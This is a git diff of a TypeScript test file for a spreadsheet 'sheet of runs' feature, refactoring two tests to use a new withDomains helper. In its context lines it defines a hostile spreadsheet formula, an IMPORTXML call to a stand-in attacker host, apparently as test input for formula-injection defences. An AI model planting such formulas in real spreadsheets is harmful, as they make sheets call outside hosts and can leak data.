@@ -6,6 +6,7 @@ import { undoRun } from '../../src/sheet/runs/undo/undo';
 import { World } from '../fakes/platform/memory-platform';
 import { mayDie, whereverItDies } from '../support/death';
 import { newest, requestFor, runOut, runThrough } from '../support/runs';
+import { withDomains } from '../support/sheets';
 
 const hostile = '=IMPORTXML("https://evil.example","//a")';
 
@@ -36,8 +37,7 @@ describe('the sheet of runs', () => {
   });
 
   it('leaves alone what people made of it, and stays deleted', () => {
-    const world = World.connected();
-    const sheet = world.book.add('S', [['Domain'], ['a.example']]);
+    const { world, sheet } = withDomains('a.example');
     runThrough(world, sheet);
     writeHistory(world.execution());
     const history = runs(world);
@@ -66,8 +66,7 @@ describe('the sheet of runs', () => {
 
   it('has each run once wherever its end was killed', () => {
     whereverItDies(50, (onCall, where) => {
-      const world = World.connected();
-      const sheet = world.book.add('S', [['Domain'], ['a.example']]);
+      const { world, sheet } = withDomains('a.example');
       runThrough(world, sheet);
       writeHistory(world.execution());
       sheet.put(3, 1, 'b.example');
